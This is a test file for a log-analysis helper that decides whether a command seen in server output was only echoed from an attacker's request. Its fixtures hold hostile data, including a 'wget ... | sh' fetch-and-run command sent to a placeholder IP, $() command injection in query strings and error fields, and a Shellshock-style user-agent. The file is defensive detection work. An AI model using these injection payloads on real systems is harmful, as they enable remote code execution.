import { describe, expect, it } from 'vitest';
import { ECHO_WINDOW_MICROS, findRequestEcho, quotesRequest } from './request-echo.js';

const AT = 1_765_576_175_101_000;
const COMMAND = 'wget http://198.51.100.7/a | sh';

describe('findRequestEcho', () => {
  it.each([
    `GET /?q=$(${COMMAND}) HTTP/1.1`,
    `GET /?q=${encodeURIComponent(COMMAND)} HTTP/1.1`,
    'GET /?q=wget+http://198.51.100.7/a+|+sh HTTP/1.1',
    `ValidationError: the following field is invalid: ${COMMAND}`,
    'POST /x "wget\\x20http://198.51.100.7/a | sh"',
  ])('finds the command in %s', (text) => {
    expect(findRequestEcho(COMMAND, AT, [{ text, atMicros: AT + 1_000 }])?.request.text).toBe(text);
  });

  it.each([
    ['another command', 'GET /?q=curl HTTP/1.1', AT],
    ['a request of another day', `GET /?q=${COMMAND}`, AT + 86_400_000_000],
    ['a request just outside the window', `GET /?q=${COMMAND}`, AT + ECHO_WINDOW_MICROS + 1],
    ['a broken escape', 'GET /?q=%E0%A4%A HTTP/1.1', AT],
  ])('finds nothing in %s', (_, text, atMicros) => {
    expect(findRequestEcho(COMMAND, AT, [{ text, atMicros }])).toBeNull();
  });

  it('takes no short text as an echo', () => {
    expect(findRequestEcho('id', AT, [{ text: 'GET /?id=4 HTTP/1.1', atMicros: AT }])).toBeNull();
  });
});

describe('quotesRequest', () => {
  it.each([
    '1.2.3.4 - - [x] "GET /?q=$(wget x|sh) HTTP/1.1" 404 1',
    'user-agent: () { :;}; wget x',
    'ZodError: invalid path $(wget x)',
  ])('sees a request in %s', (line) => {
    expect(quotesRequest(line)).toBe(true);
  });

  it.each(['[SUBPROC_DIAG] method=execSync cmd=wget http://x/a', 'sh: 1: wget: not found'])(
    'sees none in %s',
    (line) => {
      expect(quotesRequest(line)).toBe(false);
    },
  );
});
